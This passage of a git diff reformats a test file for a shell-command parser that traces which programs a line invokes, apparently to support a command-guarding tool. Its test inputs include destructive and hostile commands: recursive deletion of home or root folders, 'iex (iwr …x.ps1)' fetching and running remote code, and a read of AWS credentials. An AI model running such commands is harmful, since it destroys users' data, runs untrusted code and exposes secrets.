-      expect: [{ program: 'python3', code: "import os; os.system('rm -rf build')" }, { program: 'rm', via: 'python3 code', src: 'rm -rf build' }],
+      expect: [
+        { program: 'python3', code: "import os; os.system('rm -rf build')" },
+        { program: 'rm', via: 'python3 code', src: 'rm -rf build' },
+      ],
     },
     {
       line: `python -c 'import subprocess; subprocess.run(["git", "push", "--force"])'`,
-      expect: [{ program: 'python' }, { program: 'git', args: ['push', '--force'], via: 'python code', src: 'git", "push", "--force' }],
+      expect: [
+        { program: 'python' },
+        { program: 'git', args: ['push', '--force'], via: 'python code', src: 'git", "push", "--force' },
+      ],
     },
-    { line: `python3 -c "from subprocess import Popen; Popen(['rm','-rf','x'])"`, expect: [{ program: 'python3' }, { program: 'rm', via: 'python3 code' }] },
-    { line: `python -c "import os; print(os.popen('whoami').read())"`, expect: [{ program: 'python' }, { program: 'whoami', via: 'python code' }] },
+    {
+      line: `python3 -c "from subprocess import Popen; Popen(['rm','-rf','x'])"`,
+      expect: [{ program: 'python3' }, { program: 'rm', via: 'python3 code' }],
+    },
+    {
+      line: `python -c "import os; print(os.popen('whoami').read())"`,
+      expect: [{ program: 'python' }, { program: 'whoami', via: 'python code' }],
+    },
     {
       line: `node -e "require('child_process').execSync('npm publish')"`,
       expect: [{ program: 'node' }, { program: 'npm', args: ['publish'], via: 'node code', src: 'npm publish' }],
@@ -272,23 +574,52 @@ describe('inline code: commands found inside', () => {
       line: `node -e "const {spawn} = require('child_process'); spawn('rm', ['-rf', 'dist'])"`,
       expect: [{ program: 'node' }, { program: 'rm', args: ['-rf', 'dist'], via: 'node code' }],
     },
-    { line: `node --eval "require('child_process').execFileSync('git', ['push'])"`, expect: [{ program: 'node' }, { program: 'git', via: 'node code' }] },
-    { line: "node -e 'require(`child_process`).exec(`git push -f`)'", expect: [{ program: 'node' }, { program: 'git', via: 'node code' }] },
+    {
+      line: `node --eval "require('child_process').execFileSync('git', ['push'])"`,
+      expect: [{ program: 'node' }, { program: 'git', via: 'node code' }],
+    },
+    {
+      line: "node -e 'require(`child_process`).exec(`git push -f`)'",
+      expect: [{ program: 'node' }, { program: 'git', via: 'node code' }],
+    },
     { line: `ruby -e 'system("rm -rf tmp")'`, expect: [{ program: 'ruby' }, { program: 'rm', via: 'ruby code' }] },
-    { line: "ruby -e '%x(git push)' -e 'puts `ls`'", expect: [{ program: 'ruby', code: '%x(git push)\nputs `ls`' }, { program: 'git', via: 'ruby code' }, { program: 'ls', via: 'ruby code' }] },
-    { line: `perl -e 'system("rm", "-rf", "x")'`, expect: [{ program: 'perl' }, { program: 'rm', args: ['-rf', 'x'], via: 'perl code' }] },
-    { line: `awk 'BEGIN { system("rm -rf ~") }'`, expect: [{ program: 'awk' }, { program: 'rm', args: ['-rf', '/home/dev'], via: 'awk code' }] },
-    { line: `gawk -F: -v OFS=, '{ system("git push " $1) }' remotes`, expect: [{ program: 'gawk' }, { program: 'git', args: ['push'], via: 'gawk code' }] },
+    {
+      line: "ruby -e '%x(git push)' -e 'puts `ls`'",
+      expect: [
+        { program: 'ruby', code: '%x(git push)\nputs `ls`' },
+        { program: 'git', via: 'ruby code' },
+        { program: 'ls', via: 'ruby code' },
+      ],
+    },
+    {
+      line: `perl -e 'system("rm", "-rf", "x")'`,
+      expect: [{ program: 'perl' }, { program: 'rm', args: ['-rf', 'x'], via: 'perl code' }],
+    },
+    {
+      line: `awk 'BEGIN { system("rm -rf ~") }'`,
+      expect: [{ program: 'awk' }, { program: 'rm', args: ['-rf', '/home/dev'], via: 'awk code' }],
+    },
+    {
+      line: `gawk -F: -v OFS=, '{ system("git push " $1) }' remotes`,
+      expect: [{ program: 'gawk' }, { program: 'git', args: ['push'], via: 'gawk code' }],
+    },
     { line: "perl -E 'qx{git push}'", expect: [{ program: 'perl' }, { program: 'git', via: 'perl code' }] },
     { line: `php -r 'passthru("rm -rf cache");'`, expect: [{ program: 'php' }, { program: 'rm', via: 'php code' }] },
     {
       line: `deno eval 'new Deno.Command("git", { args: ["push", "--force"] }).outputSync()'`,
       expect: [{ program: 'deno' }, { program: 'git', args: ['push', '--force'], via: 'deno code' }],
     },
-    { line: `bun -e 'Bun.spawn(["rm", "-rf", "x"])'`, expect: [{ program: 'bun' }, { program: 'rm', via: 'bun code' }] },
+    {
+      line: `bun -e 'Bun.spawn(["rm", "-rf", "x"])'`,
+      expect: [{ program: 'bun' }, { program: 'rm', via: 'bun code' }],
+    },
     {
       line: `python3 -c "import os; os.system('sudo sh -c \\"rm -rf /opt/x\\"')"`,
-      expect: [{ program: 'python3' }, { program: 'sh', via: 'python3 code > sudo' }, { program: 'rm', via: 'python3 code > sudo > sh -c', src: 'rm -rf /opt/x' }],
+      expect: [
+        { program: 'python3' },
+        { program: 'sh', via: 'python3 code > sudo' },
+        { program: 'rm', via: 'python3 code > sudo > sh -c', src: 'rm -rf /opt/x' },
+      ],
     },
   ])('$line', (row) => {
     checkRow(row);
@@ -297,27 +628,76 @@ describe('inline code: commands found inside', () => {
 
 describe('heredocs and here-strings fed to a shell or interpreter', () => {
   it.for<Row>([
-    { line: 'bash <<EOF\nrm -rf build\nEOF', expect: [{ program: 'bash' }, { program: 'rm', via: 'bash <<', src: 'rm -rf build' }] },
-    { line: "sh <<'EOF'\ngit push\nEOF\necho done", expect: [{ program: 'sh' }, { program: 'git', via: 'sh <<' }, { program: 'echo' }] },
-    { line: 'bash -s <<EOF\ncd /srv && make\nEOF', expect: [{ program: 'bash' }, { program: 'cd', via: 'bash <<' }, { program: 'make', via: 'bash <<', cwd: '/srv' }] },
-    { line: 'sudo bash <<-EOF\n\trm -rf /opt/old\n\tEOF', expect: [{ program: 'bash', via: 'sudo' }, { program: 'rm', via: 'sudo > bash <<', src: 'rm -rf /opt/old' }] },
     {
-      line: "python3 - <<'PY'\nimport os\nos.system(\"rm -rf x\")\nPY",
-      expect: [{ program: 'python3', code: 'import os\nos.system("rm -rf x")\n' }, { program: 'rm', via: 'python3 code', src: 'rm -rf x' }],
+      line: 'bash <<EOF\nrm -rf build\nEOF',
+      expect: [{ program: 'bash' }, { program: 'rm', via: 'bash <<', src: 'rm -rf build' }],
     },
-    { line: "node <<'JS'\nrequire('child_process').execSync('ls')\nJS", expect: [{ program: 'node' }, { program: 'ls', via: 'node code' }] },
+    {
+      line: "sh <<'EOF'\ngit push\nEOF\necho done",
+      expect: [{ program: 'sh' }, { program: 'git', via: 'sh <<' }, { program: 'echo' }],
+    },
+    {
+      line: 'bash -s <<EOF\ncd /srv && make\nEOF',
+      expect: [
+        { program: 'bash' },
+        { program: 'cd', via: 'bash <<' },
+        { program: 'make', via: 'bash <<', cwd: '/srv' },
+      ],
+    },
+    {
+      line: 'sudo bash <<-EOF\n\trm -rf /opt/old\n\tEOF',
+      expect: [
+        { program: 'bash', via: 'sudo' },
+        { program: 'rm', via: 'sudo > bash <<', src: 'rm -rf /opt/old' },
+      ],
+    },
+    {
+      line: 'python3 - <<\'PY\'\nimport os\nos.system("rm -rf x")\nPY',
+      expect: [
+        { program: 'python3', code: 'import os\nos.system("rm -rf x")\n' },
+        { program: 'rm', via: 'python3 code', src: 'rm -rf x' },
+      ],
+    },
+    {
+      line: "node <<'JS'\nrequire('child_process').execSync('ls')\nJS",
+      expect: [{ program: 'node' }, { program: 'ls', via: 'node code' }],
+    },
     { line: 'bash <<< "git push"', expect: [{ program: 'bash' }, { program: 'git', via: 'bash <<', src: 'git push' }] },
-    { line: 'ssh host <<EOF\nrm -rf /tmp/x\nEOF', expect: [{ program: 'ssh' }, { program: 'rm', via: 'ssh', host: 'host' }] },
+    {
+      line: 'ssh host <<EOF\nrm -rf /tmp/x\nEOF',
+      expect: [{ program: 'ssh' }, { program: 'rm', via: 'ssh', host: 'host' }],
+    },
     {
       line: 'cat <<A; bash <<B\ndata\nA\nrm x\nB',
-      expect: [{ program: 'cat', stdin: 'data\n' }, { program: 'bash' }, { program: 'rm', via: 'bash <<', src: 'rm x' }],
+      expect: [
+        { program: 'cat', stdin: 'data\n' },
+        { program: 'bash' },
+        { program: 'rm', via: 'bash <<', src: 'rm x' },
+      ],
     },
-    { line: "echo 'rm -rf build' | sh", expect: [{ program: 'echo' }, { program: 'sh' }, { program: 'rm', via: 'sh <<', src: 'rm -rf build' }] },
-    { line: 'cat <<EOF | bash\ngit push -f\nEOF', expect: [{ program: 'cat' }, { program: 'bash' }, { program: 'git', via: 'bash <<' }] },
-    { line: 'cat <<EOF\n$(rm -rf x)\nEOF', expect: [{ program: 'rm', via: '$(' }, { program: 'cat', stdin: '$(rm -rf x)\n' }] },
+    {
+      line: "echo 'rm -rf build' | sh",
+      expect: [{ program: 'echo' }, { program: 'sh' }, { program: 'rm', via: 'sh <<', src: 'rm -rf build' }],
+    },
+    {
+      line: 'cat <<EOF | bash\ngit push -f\nEOF',
+      expect: [{ program: 'cat' }, { program: 'bash' }, { program: 'git', via: 'bash <<' }],
+    },
+    {
+      line: 'cat <<EOF\n$(rm -rf x)\nEOF',
+      expect: [
+        { program: 'rm', via: '$(' },
+        { program: 'cat', stdin: '$(rm -rf x)\n' },
+      ],
+    },
     {
       line: 'bash <<EOF\necho $(date) && git push\nEOF',
-      expect: [{ program: 'date', via: '$(' }, { program: 'bash' }, { program: 'echo', via: 'bash <<' }, { program: 'git', via: 'bash <<' }],
+      expect: [
+        { program: 'date', via: '$(' },
+        { program: 'bash' },
+        { program: 'echo', via: 'bash <<' },
+        { program: 'git', via: 'bash <<' },
+      ],
     },
   ])('$line', (row) => {
     checkRow(row);
@@ -326,19 +706,47 @@ describe('heredocs and here-strings fed to a shell or interpreter', () => {
 
 describe('substitutions read as invocations of their own', () => {
   it.for<Row>([
-    { line: 'echo $(git rev-parse HEAD)', expect: [{ program: 'git', via: '$(', src: 'git rev-parse HEAD' }, { program: 'echo' }] },
+    {
+      line: 'echo $(git rev-parse HEAD)',
+      expect: [{ program: 'git', via: '$(', src: 'git rev-parse HEAD' }, { program: 'echo' }],
+    },
     {
       line: 'cd "$(dirname "$(which node)")"',
-      expect: [{ program: 'which', via: '$( > $(' }, { program: 'dirname', via: '$(' }, { program: 'cd', cwdKnown: true }],
+      expect: [
+        { program: 'which', via: '$( > $(' },
+        { program: 'dirname', via: '$(' },
+        { program: 'cd', cwdKnown: true },
+      ],
     },
     { line: 'echo `date +%s`', expect: [{ program: 'date', via: '`', src: 'date +%s' }, { program: 'echo' }] },
-    { line: 'echo `echo \\`whoami\\``', expect: [{ program: 'whoami', via: '` > `' }, { program: 'echo', via: '`' }, { program: 'echo' }] },
-    { line: 'diff <(sort a) <(sort b)', expect: [{ program: 'sort', via: '<(' }, { program: 'sort', via: '<(' }, { program: 'diff' }] },
-    { line: 'make 2>&1 | tee >(gzip > build.log.gz)', expect: [{ program: 'make' }, { program: 'gzip', via: '>(', writes: ['build.log.gz'] }, { program: 'tee' }] },
-    { line: 'rm -rf "$(git rev-parse --show-toplevel)/build"', expect: [{ program: 'git', via: '$(' }, { program: 'rm', args: ['-rf', '$(git rev-parse --show-toplevel)/build'] }] },
+    {
+      line: 'echo `echo \\`whoami\\``',
+      expect: [{ program: 'whoami', via: '` > `' }, { program: 'echo', via: '`' }, { program: 'echo' }],
+    },
+    {
+      line: 'diff <(sort a) <(sort b)',
+      expect: [{ program: 'sort', via: '<(' }, { program: 'sort', via: '<(' }, { program: 'diff' }],
+    },
+    {
+      line: 'make 2>&1 | tee >(gzip > build.log.gz)',
+      expect: [{ program: 'make' }, { program: 'gzip', via: '>(', writes: ['build.log.gz'] }, { program: 'tee' }],
+    },
+    {
+      line: 'rm -rf "$(git rev-parse --show-toplevel)/build"',
+      expect: [
+        { program: 'git', via: '$(' },
+        { program: 'rm', args: ['-rf', '$(git rev-parse --show-toplevel)/build'] },
+      ],
+    },
     { line: 'echo "$(rm x)"', expect: [{ program: 'rm', via: '$(' }, { program: 'echo' }] },
     { line: 'echo $((1 + $(id -u)))', expect: [{ program: 'id', via: '$(' }, { program: 'echo' }] },
-    { line: 'X=$(git rev-parse --show-toplevel) && cd $X', expect: [{ program: 'git', via: '$(' }, { program: 'cd', args: ['$(git rev-parse --show-toplevel)'] }] },
+    {
+      line: 'X=$(git rev-parse --show-toplevel) && cd $X',
+      expect: [
+        { program: 'git', via: '$(' },
+        { program: 'cd', args: ['$(git rev-parse --show-toplevel)'] },
+      ],
+    },
   ])('$line', (row) => {
     checkRow(row);
   });
@@ -354,9 +762,18 @@ describe('redirections are writes', () => {
     { line: 'exec 3<> lock', expect: [{ program: 'exec', writes: ['lock'] }] },
     { line: '> app.log', expect: [{ program: ':', writes: ['app.log'], src: '> app.log' }] },
     { line: '> notes.md echo hi', expect: [{ program: 'echo', writes: ['notes.md'], src: 'echo hi' }] },
-    { line: 'make > >(tee build.log) 2>&1', expect: [{ program: 'tee', via: '>(', args: ['build.log'] }, { program: 'make', writes: [] }] },
+    {
+      line: 'make > >(tee build.log) 2>&1',
+      expect: [
+        { program: 'tee', via: '>(', args: ['build.log'] },
+        { program: 'make', writes: [] },
+      ],
+    },
     { line: 'echo x > ~/.bashrc', expect: [{ program: 'echo', writes: ['/home/dev/.bashrc'] }] },
-    { line: 'cat <<EOF > config.yml\nkey: value\nEOF', expect: [{ program: 'cat', writes: ['config.yml'], stdin: 'key: value\n' }] },
+    {
+      line: 'cat <<EOF > config.yml\nkey: value\nEOF',
+      expect: [{ program: 'cat', writes: ['config.yml'], stdin: 'key: value\n' }],
+    },
   ])('$line', (row) => {
     checkRow(row);
   });
@@ -379,21 +796,51 @@ describe('the effective working directory', () => {
     { line: 'cd ../.. && ls', expect: [{ program: 'cd' }, { program: 'ls', cwd: '/home' }] },
     {
       line: 'pushd build && make && popd && ls',
-      expect: [{ program: 'pushd' }, { program: 'make', cwd: '/home/dev/project/build' }, { program: 'popd' }, { program: 'ls', cwd: '/home/dev/project' }],
+      expect: [
+        { program: 'pushd' },
+        { program: 'make', cwd: '/home/dev/project/build' },
+        { program: 'popd' },
+        { program: 'ls', cwd: '/home/dev/project' },
+      ],
     },
     { line: 'cd - && ls', expect: [{ program: 'cd' }, { program: 'ls', cwdKnown: false }] },
-    { line: 'cd /a && cd /b && cd - && ls', expect: [{ program: 'cd' }, { program: 'cd' }, { program: 'cd' }, { program: 'ls', cwd: '/a', cwdKnown: true }] },
+    {
+      line: 'cd /a && cd /b && cd - && ls',
+      expect: [{ program: 'cd' }, { program: 'cd' }, { program: 'cd' }, { program: 'ls', cwd: '/a', cwdKnown: true }],
+    },
     { line: 'cd && ls', expect: [{ program: 'cd' }, { program: 'ls', cwd: '/home/dev' }] },
-    { line: 'cd ~/work && ls', expect: [{ program: 'cd', args: ['/home/dev/work'] }, { program: 'ls', cwd: '/home/dev/work' }] },
+    {
+      line: 'cd ~/work && ls',
+      expect: [
+        { program: 'cd', args: ['/home/dev/work'] },
+        { program: 'ls', cwd: '/home/dev/work' },
+      ],
+    },
     { line: 'git -C ../other status', expect: [{ program: 'git', cwd: '/home/dev/other' }] },
     { line: 'git -C a -C b push', expect: [{ program: 'git', cwd: '/home/dev/project/a/b' }] },
-    { line: 'make -C sub all && make', expect: [{ program: 'make', cwd: '/home/dev/project/sub' }, { program: 'make', cwd: '/home/dev/project' }] },
+    {
+      line: 'make -C sub all && make',
+      expect: [
+        { program: 'make', cwd: '/home/dev/project/sub' },
+        { program: 'make', cwd: '/home/dev/project' },
+      ],
+    },
     { line: 'npm --prefix web install', expect: [{ program: 'npm', cwd: '/home/dev/project/web' }] },
     { line: 'pnpm -C packages/a build', expect: [{ program: 'pnpm', cwd: '/home/dev/project/packages/a' }] },
     { line: 'yarn --cwd=app test', expect: [{ program: 'yarn', cwd: '/home/dev/project/app' }] },
-    { line: '(cd /tmp && ls); ls', expect: [{ program: 'cd', via: '(' }, { program: 'ls', via: '(', cwd: '/tmp' }, { program: 'ls', cwd: '/home/dev/project' }] },
+    {
+      line: '(cd /tmp && ls); ls',
+      expect: [
+        { program: 'cd', via: '(' },
+        { program: 'ls', via: '(', cwd: '/tmp' },
+        { program: 'ls', cwd: '/home/dev/project' },
+      ],
+    },
     { line: 'cd $UNKNOWN && rm -rf x', expect: [{ program: 'cd' }, { program: 'rm', cwdKnown: false }] },
-    { line: String.raw`cd "C:\Users\dev\app" && del x`, expect: [{ program: 'cd' }, { program: 'del', cwd: String.raw`C:\Users\dev\app` }] },
+    {
+      line: String.raw`cd "C:\Users\dev\app" && del x`,
+      expect: [{ program: 'cd' }, { program: 'del', cwd: String.raw`C:\Users\dev\app` }],
+    },
     {
       line: 'cd /srv && bash -c "rm -rf cache"',
       expect: [{ program: 'cd' }, { program: 'bash', cwd: '/srv' }, { program: 'rm', via: 'bash -c', cwd: '/srv' }],
@@ -407,36 +854,137 @@ describe('variables set earlier in the line, home and temp folders', () => {
   it.for<Row>([
     { line: 'DIR=/x; rm -rf $DIR', expect: [{ program: 'rm', args: ['-rf', '/x'] }] },
     { line: 'DIR=/x && rm -rf "$DIR"/y', expect: [{ program: 'rm', args: ['-rf', '/x/y'] }] },
-    { line: 'export DIR=/srv/app && rm -rf ${DIR}', expect: [{ program: 'export' }, { program: 'rm', args: ['-rf', '/srv/app'] }] },
-    { line: 'readonly R=/r; local L=/l; declare D=/d; rm $R $L $D', expect: [{ program: 'readonly' }, { program: 'local' }, { program: 'declare' }, { program: 'rm', args: ['/r', '/l', '/d'] }] },
+    {
+      line: 'export DIR=/srv/app && rm -rf ${DIR}',
+      expect: [{ program: 'export' }, { program: 'rm', args: ['-rf', '/srv/app'] }],
+    },
+    {
+      line: 'readonly R=/r; local L=/l; declare D=/d; rm $R $L $D',
+      expect: [
+        { program: 'readonly' },
+        { program: 'local' },
+        { program: 'declare' },
+        { program: 'rm', args: ['/r', '/l', '/d'] },
+      ],
+    },
     { line: 'rm -rf $UNSET/x', expect: [{ program: 'rm', args: ['-rf', '$UNSET/x'] }] },
-    { line: 'rm -rf ~ ~/x $HOME/.cache ${HOME}', expect: [{ program: 'rm', args: ['-rf', '/home/dev', '/home/dev/x', '/home/dev/.cache', '/home/dev'] }] },
-    { line: 'rm -rf %USERPROFILE%/x $env:USERPROFILE $env:HOME', expect: [{ program: 'rm', args: ['-rf', '/home/dev/x', '/home/dev', '/home/dev'] }] },
-    { line: 'rm -rf $TMPDIR/x $TMP $TEMP %TEMP% $env:TEMP', expect: [{ program: 'rm', args: ['-rf', '/tmp/x', '/tmp', '/tmp', '/tmp', '/tmp'] }] },
+    {
+      line: 'rm -rf ~ ~/x $HOME/.cache ${HOME}',
+      expect: [{ program: 'rm', args: ['-rf', '/home/dev', '/home/dev/x', '/home/dev/.cache', '/home/dev'] }],
+    },
+    {
+      line: 'rm -rf %USERPROFILE%/x $env:USERPROFILE $env:HOME',
+      expect: [{ program: 'rm', args: ['-rf', '/home/dev/x', '/home/dev', '/home/dev'] }],
+    },
+    {
+      line: 'rm -rf $TMPDIR/x $TMP $TEMP %TEMP% $env:TEMP',
+      expect: [{ program: 'rm', args: ['-rf', '/tmp/x', '/tmp', '/tmp', '/tmp', '/tmp'] }],
+    },
     { line: 'cd /a && rm $PWD/x', expect: [{ program: 'cd' }, { program: 'rm', args: ['/a/x'] }] },
     // `$(pwd)` and backtick pwd print the effective working directory
-    { line: 'rm -rf "$(pwd)/build"', expect: [{ program: 'pwd', via: '$(' }, { program: 'rm', args: ['-rf', '/home/dev/project/build'] }] },
-    { line: 'cd src && rm -rf "$(pwd)"', expect: [{ program: 'cd' }, { program: 'pwd', via: '$(' }, { program: 'rm', args: ['-rf', '/home/dev/project/src'] }] },
-    { line: 'rm -rf `pwd -P`/dist', expect: [{ program: 'pwd', via: '`' }, { program: 'rm', args: ['-rf', '/home/dev/project/dist'] }] },
-    { line: 'D=$(pwd)/out; rm -rf "$D"', expect: [{ program: 'pwd', via: '$(' }, { program: 'rm', args: ['-rf', '/home/dev/project/out'] }] },
+    {
+      line: 'rm -rf "$(pwd)/build"',
+      expect: [
+        { program: 'pwd', via: '$(' },
+        { program: 'rm', args: ['-rf', '/home/dev/project/build'] },
+      ],
+    },
+    {
+      line: 'cd src && rm -rf "$(pwd)"',
+      expect: [
+        { program: 'cd' },
+        { program: 'pwd', via: '$(' },
+        { program: 'rm', args: ['-rf', '/home/dev/project/src'] },
+      ],
+    },
+    {
+      line: 'rm -rf `pwd -P`/dist',
+      expect: [
+        { program: 'pwd', via: '`' },
+        { program: 'rm', args: ['-rf', '/home/dev/project/dist'] },
+      ],
+    },
+    {
+      line: 'D=$(pwd)/out; rm -rf "$D"',
+      expect: [
+        { program: 'pwd', via: '$(' },
+        { program: 'rm', args: ['-rf', '/home/dev/project/out'] },
+      ],
+    },
     // … not when the directory is unknown, or the substitution does more than print it
-    { line: 'cd "$X" && rm -rf "$(pwd)"', expect: [{ program: 'cd' }, { program: 'pwd', via: '$(' }, { program: 'rm', args: ['-rf', '$(pwd)'] }] },
-    { line: 'rm -rf "$(pwd; echo x)"', expect: [{ program: 'pwd', via: '$(' }, { program: 'echo', via: '$(' }, { program: 'rm', args: ['-rf', '$(pwd; echo x)'] }] },
-    { line: 'rm -rf "$(dirname "$(pwd)")"', expect: [{ program: 'pwd', via: '$( > $(' }, { program: 'dirname', via: '$(' }, { program: 'rm', args: ['-rf', '$(dirname "$(pwd)")'] }] },
-    { line: 'rm -rf ${TARGET:-/tmp/cache} ${HOME:-/nope}', expect: [{ program: 'rm', args: ['-rf', '/tmp/cache', '/home/dev'] }] },
+    {
+      line: 'cd "$X" && rm -rf "$(pwd)"',
+      expect: [{ program: 'cd' }, { program: 'pwd', via: '$(' }, { program: 'rm', args: ['-rf', '$(pwd)'] }],
+    },
+    {
+      line: 'rm -rf "$(pwd; echo x)"',
+      expect: [
+        { program: 'pwd', via: '$(' },
+        { program: 'echo', via: '$(' },
+        { program: 'rm', args: ['-rf', '$(pwd; echo x)'] },
+      ],
+    },
+    {
+      line: 'rm -rf "$(dirname "$(pwd)")"',
+      expect: [
+        { program: 'pwd', via: '$( > $(' },
+        { program: 'dirname', via: '$(' },
+        { program: 'rm', args: ['-rf', '$(dirname "$(pwd)")'] },
+      ],
+    },
+    {
+      line: 'rm -rf ${TARGET:-/tmp/cache} ${HOME:-/nope}',
+      expect: [{ program: 'rm', args: ['-rf', '/tmp/cache', '/home/dev'] }],
+    },
     { line: '(X=/a); rm -rf $X', expect: [{ program: 'rm', args: ['-rf', '$X'] }] },
-    { line: 'X=/a true; rm -rf $X', expect: [{ program: 'true', env: { X: '/a' } }, { program: 'rm', args: ['-rf', '$X'] }] },
+    {
+      line: 'X=/a true; rm -rf $X',
+      expect: [
+        { program: 'true', env: { X: '/a' } },
+        { program: 'rm', args: ['-rf', '$X'] },
+      ],
+    },
     { line: 'CMD=rm; $CMD -rf /', expect: [{ program: 'rm', args: ['-rf', '/'], src: '$CMD -rf /' }] },
     { line: 'F="a b"; touch $F "$F"', expect: [{ program: 'touch', args: ['a', 'b', 'a b'] }] },
-    { line: 'export D=/x; bash -c \'rm -rf "$D"\'', expect: [{ program: 'export' }, { program: 'bash' }, { program: 'rm', args: ['-rf', '/x'], via: 'bash -c' }] },
-    { line: "D=/x; bash -c 'rm -rf $D'", expect: [{ program: 'bash' }, { program: 'rm', args: ['-rf', '$D'], via: 'bash -c' }] },
+    {
+      line: 'export D=/x; bash -c \'rm -rf "$D"\'',
+      expect: [{ program: 'export' }, { program: 'bash' }, { program: 'rm', args: ['-rf', '/x'], via: 'bash -c' }],
+    },
+    {
+      line: "D=/x; bash -c 'rm -rf $D'",
+      expect: [{ program: 'bash' }, { program: 'rm', args: ['-rf', '$D'], via: 'bash -c' }],
+    },
     { line: 'unset HOME; rm -rf $HOME', expect: [{ program: 'unset' }, { program: 'rm', args: ['-rf', '$HOME'] }] },
     // PowerShell's `$env:NAME = value` in a line read as POSIX: an export (kept under that name), and what follows is read
-    { line: '$env:NODE_ENV = "test"; npm test', expect: [{ program: '$env:NODE_ENV', args: ['NODE_ENV=test'], src: '$env:NODE_ENV = "test"' }, { program: 'npm', args: ['test'] }] },
-    { line: '$env:NODE_ENV="test"; npm test', expect: [{ program: '$env:NODE_ENV', args: ['NODE_ENV=test'] }, { program: 'npm', args: ['test'] }] },
-    { line: '$env:Path += ";C:\\tools"; npm test', expect: [{ program: '$env:Path', args: ['Path+=;C:\\tools'] }, { program: 'npm', args: ['test'] }] },
-    { line: '$env:DIR = "/srv/app"; rm -rf $env:DIR', expect: [{ program: '$env:DIR' }, { program: 'rm', args: ['-rf', '/srv/app'] }] },
-    { line: '$env:X = "y"; Remove-Item -Recurse -Force C:\\', expect: [{ program: '$env:X' }, { program: 'Remove-Item', args: ['-Recurse', '-Force', 'C:\\'] }] },
+    {
+      line: '$env:NODE_ENV = "test"; npm test',
+      expect: [
+        { program: '$env:NODE_ENV', args: ['NODE_ENV=test'], src: '$env:NODE_ENV = "test"' },
+        { program: 'npm', args: ['test'] },
+      ],
+    },
+    {
+      line: '$env:NODE_ENV="test"; npm test',
+      expect: [
+        { program: '$env:NODE_ENV', args: ['NODE_ENV=test'] },
+        { program: 'npm', args: ['test'] },
+      ],
+    },
+    {
+      line: '$env:Path += ";C:\\tools"; npm test',
+      expect: [
+        { program: '$env:Path', args: ['Path+=;C:\\tools'] },
+        { program: 'npm', args: ['test'] },
+      ],
+    },
+    {
+      line: '$env:DIR = "/srv/app"; rm -rf $env:DIR',
+      expect: [{ program: '$env:DIR' }, { program: 'rm', args: ['-rf', '/srv/app'] }],
+    },
+    {
+      line: '$env:X = "y"; Remove-Item -Recurse -Force C:\\',
+      expect: [{ program: '$env:X' }, { program: 'Remove-Item', args: ['-Recurse', '-Force', 'C:\\'] }],
+    },
   ])('$line', (row) => {
     checkRow(row);
   });
@@ -445,21 +993,50 @@ describe('variables set earlier in the line, home and temp folders', () => {
 describe('other shells written directly (options.shell)', () => {
   it.for<Row>([
     {
-      line: "Remove-Item -Recurse -Force $env:USERPROFILE\\Documents; Get-ChildItem env:",
+      line: 'Remove-Item -Recurse -Force $env:USERPROFILE\\Documents; Get-ChildItem env:',
       options: { shell: 'powershell' },
-      expect: [{ program: 'Remove-Item', args: ['-Recurse', '-Force', '/home/dev\\Documents'] }, { program: 'Get-ChildItem' }],
+      expect: [
+        { program: 'Remove-Item', args: ['-Recurse', '-Force', '/home/dev\\Documents'] },
+        { program: 'Get-ChildItem' },
+      ],
     },
-    { line: '$env:NODE_ENV = "test"; npm test', options: { shell: 'powershell' }, expect: [{ program: '$env:NODE_ENV', args: ['NODE_ENV=test'] }, { program: 'npm', args: ['test'] }] },
+    {
+      line: '$env:NODE_ENV = "test"; npm test',
+      options: { shell: 'powershell' },
+      expect: [
+        { program: '$env:NODE_ENV', args: ['NODE_ENV=test'] },
+        { program: 'npm', args: ['test'] },
+      ],
+    },
     { line: '$n = 3; npm test', options: { shell: 'powershell' }, expect: [{ program: 'npm', args: ['test'] }] },
-    { line: 'iex (iwr https://example.com/x.ps1)', options: { shell: 'powershell' }, expect: [{ program: 'iex' }, { program: 'iwr', via: '(' }] },
+    {
+      line: 'iex (iwr https://example.com/x.ps1)',
+      options: { shell: 'powershell' },
+      expect: [{ program: 'iex' }, { program: 'iwr', via: '(' }],
+    },
     {
       line: '$target = "C:\\build"; Remove-Item $target -Recurse',
       options: { shell: 'powershell' },
       expect: [{ program: 'Remove-Item', args: ['C:\\build', '-Recurse'] }],
     },
-    { line: "Get-Process | Where-Object { $_.CPU -gt 100 } | Stop-Process", options: { shell: 'powershell' }, expect: [{ program: 'Get-Process' }, { program: 'Where-Object' }, { program: 'Stop-Process' }] },
-    { line: 'del /q %TEMP%\\x && rd /s /q build', options: { shell: 'cmd' }, expect: [{ program: 'del', args: ['/q', '/tmp\\x'] }, { program: 'rd' }] },
-    { line: 'echo hi > nul & type "a b.txt"', options: { shell: 'cmd' }, expect: [{ program: 'echo', writes: [] }, { program: 'type', args: ['a b.txt'] }] },
+    {
+      line: 'Get-Process | Where-Object { $_.CPU -gt 100 } | Stop-Process',
+      options: { shell: 'powershell' },
+      expect: [{ program: 'Get-Process' }, { program: 'Where-Object' }, { program: 'Stop-Process' }],
+    },
+    {
+      line: 'del /q %TEMP%\\x && rd /s /q build',
+      options: { shell: 'cmd' },
+      expect: [{ program: 'del', args: ['/q', '/tmp\\x'] }, { program: 'rd' }],
+    },
+    {
+      line: 'echo hi > nul & type "a b.txt"',
+      options: { shell: 'cmd' },
+      expect: [
+        { program: 'echo', writes: [] },
+        { program: 'type', args: ['a b.txt'] },
+      ],
+    },
   ])('$line', (row) => {
     checkRow(row);
   });
@@ -468,27 +1045,64 @@ describe('other shells written directly (options.shell)', () => {
 describe('a PowerShell or cmd.exe line handed over as is (no options.shell)', () => {
   it.for<Row>([
     // backslashes are separators there, not escapes, so they are kept for the path facts
-    { line: 'Remove-Item $env:TEMP\\test-output -Recurse -Force', expect: [{ program: 'Remove-Item', args: ['/tmp\\test-output', '-Recurse', '-Force'] }] },
-    { line: 'Remove-Item C:\\ -Recurse -Force', expect: [{ program: 'Remove-Item', args: ['C:\\', '-Recurse', '-Force'] }] },
+    {
+      line: 'Remove-Item $env:TEMP\\test-output -Recurse -Force',
+      expect: [{ program: 'Remove-Item', args: ['/tmp\\test-output', '-Recurse', '-Force'] }],
+    },
+    {
+      line: 'Remove-Item C:\\ -Recurse -Force',
+      expect: [{ program: 'Remove-Item', args: ['C:\\', '-Recurse', '-Force'] }],
+    },
     { line: 'del /q dist\\*.map', expect: [{ program: 'del', args: ['/q', 'dist\\*.map'] }] },
-    { line: 'cmd.exe /c type %USERPROFILE%\\.aws\\credentials', expect: [{ program: 'cmd.exe' }, { program: 'type', args: ['/home/dev\\.aws\\credentials'], via: 'cmd -c' }] },
+    {
